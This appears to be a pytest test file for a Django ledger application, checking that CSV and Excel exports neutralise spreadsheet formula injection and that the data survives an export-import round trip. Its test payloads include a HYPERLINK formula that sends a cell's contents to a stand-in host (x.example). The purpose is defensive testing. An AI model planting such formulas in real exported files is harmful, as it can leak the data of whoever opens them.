"""No cell we write is a formula (issue 11, finding 9: "``jiuye export … --format csv`` writes
``=HYPERLINK(…)``, ``+1+1``, ``@SUM(1)`` as raw values"): a CSV text cell starting with = + - @
tab or carriage return gets a leading apostrophe, and the importer takes it off again, so
export → import → export still gives the same bytes; the workbooks (export, errors, template)
hold such text as text cells, never as formulas."""

from __future__ import annotations

import csv
import re
import zipfile
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.core.management import call_command
from tests.conftest import make_id
from tests.ledger.conftest import TODAY
from tests.ledger.test_export import DATA_SHEETS, _wipe, district  # noqa: F401 (a fixture)

from jiuye.ledger.formulas import neutralise, restore

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x.example/?"&A2,"详情")'
PAYLOADS = {
    "name": HYPERLINK,
    "employer": "+1+1",
    "note": "@SUM(1)",
    "recognition_note": "-1+2",
    "address": "'=已是文本",
    "cause": "=1+1",
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_neutralise_and_restore() -> None:
    for text in ["=1+1", "+1", "-5", "@SUM(1)", "\t=1", "\r=1", "'=1", "''+1", "'"]:
        written = neutralise(text)
        assert not written.startswith(DANGEROUS)
        assert restore(written) == text
    for text in ["", "周丽", "a=b", "1-2", "'", "'周", "''", "2026-01-01", "O'Brien"]:
        assert neutralise(text) == text and restore(text) == text


@pytest.fixture
def planted(tree: dict[str, Any], district: dict[str, Any]) -> Any:  # noqa: F811
    """A resident whose free text is the finding's payloads (typed in by a worker)."""
    from jiuye.casework import services as casework
    from jiuye.registry import services as registry

    household = registry.household_create(
        actor=None,
        number="RT-INJ",
        unit=tree["a1"],
        hukou_type="urban",
        address=PAYLOADS["address"],
    )
    person = registry.person_create(
        actor=None,
        id_number=make_id(date(1980, 5, 6)),
        name=PAYLOADS["name"],
        household=household,
        relation="户主",
    )
    registry.person_change_status(
        actor=None,
        person=person,
        status="unit",
        since=date(2020, 1, 1),
        employer=PAYLOADS["employer"],
    )
    registry.person_change_status(
        actor=None,
        person=person,
        status="unemployed",
        since=date(2026, 3, 1),
        registered=True,
        cause=PAYLOADS["cause"],
    )
    registry.recognition_create(
        actor=None,
        person=person,
        category="other",
        recognized_on=date(2026, 3, 2),
        note=PAYLOADS["recognition_note"],
    )
    casework.service_record_create(
        actor=None,
        person=person,
        kind="guidance",
        on=date(2026, 3, 3),
        today=TODAY,
        note=PAYLOADS["note"],
    )
    return person


def _cells(directory: Path) -> list[str]:
    cells = []
    for path in sorted(directory.glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells.extend(cell for row in csv.reader(handle) for cell in row)
    return cells


def _export_csv(unit: Any, directory: Path, *, reveal: bool = True) -> None:
    from jiuye.ledger.export import export_ledgers

    export_ledgers(
        actor=None,
        unit=unit,
        target=directory,
        on=TODAY,
        fmt="csv",
        reveal=reveal,
        reason="往返测试" if reveal else "",
    )


def test_csv_cells_are_never_formulas(tree: Any, planted: Any, tmp_path: Path) -> None:
    for reveal in (True, False):
        directory = tmp_path / f"csv-{reveal}"
        _export_csv(tree["district"], directory, reveal=reveal)
        cells = _cells(directory)
        assert not [c for c in cells if c.startswith(DANGEROUS)]
        for value in PAYLOADS.values():
            assert "'" + value in cells, value  # there, as text
        assert "2026-03-03" in cells  # dates are not touched


def test_the_command_line_csv_export(tree: Any, planted: Any, tmp_path: Path) -> None:
    """The finding's own command."""
    directory = tmp_path / "cli"
    call_command(
        "export",
        "ledgers",
        "110108",
        "-o",
        str(directory),
        "--format",
        "csv",
        "--date",
        TODAY.isoformat(),
    )
    cells = _cells(directory)
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    assert "'" + HYPERLINK in cells


@pytest.mark.usefixtures("reading")
def test_csv_round_trip_keeps_the_text(
    tree: Any, planted: Any, tmp_path: Path, run_import: Any
) -> None:
    from jiuye.casework.models import ServiceRecord
    from jiuye.registry.models import DifficultyRecognition, Household, Person, StatusEvent
    from jiuye.units.models import Unit

    first = tmp_path / "csv"
    _export_csv(tree["district"], first)
    _wipe()
    result = run_import([first / f"{name}.csv" for name in DATA_SHEETS])
    assert result.ok, [(i.code, i.sheet, i.row, i.column) for i in result.issues]
    person = Person.objects.get(id_number=planted.id_number)
    assert person.name == PAYLOADS["name"]
    assert Household.objects.get(number="RT-INJ").address == PAYLOADS["address"]
    events = StatusEvent.objects.filter(person=person).order_by("since")
    assert events.first().employer == PAYLOADS["employer"]
    assert events.last().cause == PAYLOADS["cause"]
    assert DifficultyRecognition.objects.get(person=person).note == PAYLOADS["recognition_note"]
    assert ServiceRecord.objects.get(person=person).note == PAYLOADS["note"]
    again = tmp_path / "csv2"
    _export_csv(Unit.objects.get(code="110108"), again)
    for name in DATA_SHEETS:
        assert (again / f"{name}.csv").read_bytes() == (first / f"{name}.csv").read_bytes(), name


def _formulas(data: bytes | Path) -> list[str]:
    """The formula elements in every worksheet of a workbook."""
    found = []
    with zipfile.ZipFile(data) as archive:
        for member in archive.namelist():
            if member.startswith("xl/worksheets/"):
                found += re.findall(r"<(?:\w+:)?f[ >/]", archive.read(member).decode())
    return found


def test_workbooks_hold_the_text_as_text(tree: Any, planted: Any, tmp_path: Path) -> None:
    from jiuye.ledger.export import export_ledgers

    path = tmp_path / "export.xlsx"
    export_ledgers(
        actor=None, unit=tree["district"], target=path, on=TODAY, reveal=True, reason="往返测试"
    )
    assert _formulas(path) == []
    workbook = openpyxl.load_workbook(path)
    texts = {
        cell.value
        for ws in workbook.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "s"
    }
    assert set(PAYLOADS.values()) <= texts  # unchanged, and text


def test_the_errors_workbook_and_the_template(tmp_path: Path) -> None:
    from jiuye.ledger.issues import make_issue
    from jiuye.ledger.template import write_template
    from jiuye.ledger.terminal import write_errors

    issues = [
        make_issue("enum", sheet="人员", row=2, column="姓名", value=v, allowed="是/否")
        for v in PAYLOADS.values()
    ]
    errors = tmp_path / "errors.xlsx"
    write_errors(issues, errors)
    assert _formulas(errors) == []
    values = [c.value for row in openpyxl.load_workbook(errors).active.iter_rows() for c in row]
    assert HYPERLINK in values
    template = tmp_path / "template.xlsx"
    write_template(template)
    assert _formulas(template) == []
